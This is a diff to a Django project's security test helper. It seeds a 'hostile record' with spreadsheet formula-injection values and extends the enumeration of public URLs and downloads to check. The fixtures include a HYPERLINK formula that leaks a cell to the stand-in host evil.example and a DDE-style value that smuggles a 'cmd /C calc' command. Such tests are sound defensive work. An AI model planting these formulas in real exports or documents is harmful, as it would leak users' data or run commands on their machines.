@@ -5,12 +5,20 @@ finds anything a payload managed to inject.
 """
 
 import html
+import itertools
 import re
 from dataclasses import dataclass, field
 from html.parser import HTMLParser
 
 from django.contrib.auth.models import Group
-from django.urls import URLPattern, URLResolver, get_resolver, resolve, reverse
+from django.urls import (
+    NoReverseMatch,
+    URLPattern,
+    URLResolver,
+    get_resolver,
+    resolve,
+    reverse,
+)
 
 from positions.models import (
     ActorIdentifier,
@@ -135,6 +143,21 @@ def build_hostile_record():
         quote=payload("draft-quote"),
         status=StatementStatus.DRAFT,
     )
+    # Spreadsheet formulas, for the downloads: a cell must never start with = + - @ tab or CR.
+    formula_actor = ActorFactory(
+        name='=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
+        slug="formula-actor",
+        description="@SUM(1+1)*cmd|' /C calc'!A0",
+    )
+    formula_source = SourceFactory(title="+1+1", publisher="-2+3")
+    StatementFactory(
+        question=question,
+        actors=[formula_actor],
+        source=formula_source,
+        summary="=1+1",
+        quote="\t=2+2",
+        quote_locator="\r=3+3",
+    )
     record.objects.update(
         user=user,
         group=group,
@@ -242,6 +265,8 @@ PRIVATE_NAMESPACES = {"admin"}
 class PublicPattern:
     name: str  # "namespace:name"
     kwargs: tuple  # the names of the pattern's arguments
+    # argument name -> the regular expression it must match
+    argument_patterns: tuple = ()
 
     def __str__(self):
         return self.name
@@ -260,8 +285,41 @@ def public_patterns(resolver=None, namespace=""):
         elif isinstance(entry, URLPattern) and entry.name:
             name = f"{namespace}{entry.name}"
             if name not in NOT_PUBLIC_PAGES:
-                found.append(PublicPattern(name, tuple(sorted(entry.pattern.regex.groupindex))))
+                regex = entry.pattern.regex
+                found.append(
+                    PublicPattern(
+                        name,
+                        tuple(sorted(regex.groupindex)),
+                        tuple(sorted(named_group_patterns(regex.pattern).items())),
+                    )
+                )
     return sorted(set(found), key=str)
+
+
+def named_group_patterns(regex_text):
+    """{"fmt": "csv|json", "slug": "[-a-zA-Z0-9_]+"} for the named groups of a pattern."""
+    return dict(re.findall(r"\(\?P<(\w+)>((?:[^()]|\([^()]*\))*)\)", regex_text))
+
+
+# Words tried for an argument that no object supplies, such as the `kind` of a download.
+def argument_vocabulary():
+    from django.apps import apps
+
+    words = set()
+    for model in apps.get_app_config("positions").get_models():
+        meta = model._meta
+        if not meta.model_name.startswith("historical"):
+            words |= {meta.model_name, f"{meta.model_name}s", str(meta.verbose_name_plural)}
+    words |= {"positions", "boards", "board", "all", "csv", "json", "atom", "rss", "xml"}
+    return sorted({word.replace(" ", "") for word in words})
+
+
+def argument_values(argument, argument_pattern):
+    """Every value an argument without an object can take: a literal alternation (csv|json)
+    gives its words; anything else, the vocabulary words it matches."""
+    if re.fullmatch(r"[\w.-]+(\|[\w.-]+)*", argument_pattern):
+        return argument_pattern.split("|")
+    return [w for w in argument_vocabulary() if re.fullmatch(argument_pattern, w)]
 
 
 def candidate_kwargs(record):
@@ -280,24 +338,49 @@ def candidate_kwargs(record):
     return candidates
 
 
-def public_url(pattern, record, client):
-    """A URL of `pattern` that answers 200, built from the record's real objects."""
+def public_urls(pattern, record, client):
+    """Every URL of `pattern` that answers 200, built from the record's real objects (the
+    objects a pattern's name starts with first), and every value of its other arguments."""
     if not pattern.kwargs:
-        return reverse(pattern.name)
+        return [reverse(pattern.name)]
     short_name = pattern.name.rsplit(":", 1)[-1]
-    # Objects whose model names the pattern ("actor_feed" → the actor) are tried first.
-    ranked = sorted(candidate_kwargs(record), key=lambda c: not short_name.startswith(c[0]))
-    tried = []
-    for _model, kwargs in ranked:
-        if set(kwargs) != set(pattern.kwargs):
-            continue
-        url = reverse(pattern.name, kwargs=kwargs)
-        if url in tried:
-            continue
-        tried.append(url)
-        if client.get(url).status_code == 200:
-            return url
-    raise AssertionError(
-        f"No object of the hostile record gives a page for {pattern.name} "
-        f"({', '.join(pattern.kwargs)}); tried {tried}. Teach tests/hostile.py about it."
-    )
+    argument_patterns = dict(pattern.argument_patterns)
+    # Objects whose model the pattern names ("feed_actor" → the actor) are tried first.
+    ranked = sorted(candidate_kwargs(record), key=lambda c: c[0] not in short_name.split("_"))
+    object_options = [kwargs for _model, kwargs in ranked if set(kwargs) <= set(pattern.kwargs)]
+    object_options.append({})
+    tried, found = [], []
+    for object_kwargs in object_options:
+        rest = [name for name in pattern.kwargs if name not in object_kwargs]
+        choices = [argument_values(name, argument_patterns.get(name, "")) for name in rest]
+        for values in itertools.product(*choices):
+            kwargs = {**object_kwargs, **dict(zip(rest, values, strict=True))}
+            try:
+                url = reverse(pattern.name, kwargs=kwargs)
+            except NoReverseMatch:
+                continue
+            if url in tried:
+                continue
+            tried.append(url)
+            if client.get(url).status_code == 200:
+                found.append(url)
+        if found and object_kwargs:
+            break  # one object's pages are enough; other values of the rest are all kept
+    if not found:
+        raise AssertionError(
+            f"No object of the hostile record gives a page for {pattern.name} "
+            f"({', '.join(pattern.kwargs)}); tried {tried}. Teach tests/hostile.py about it."
+        )
+    return found
+
+
+def public_url(pattern, record, client):
+    """One URL of `pattern` that answers 200."""
+    return public_urls(pattern, record, client)[0]
+
+
+def body_of(response):
+    """The content of a response, streamed or not, as text."""
+    if response.streaming:
+        return b"".join(response.streaming_content).decode()
+    return response.content.decode()
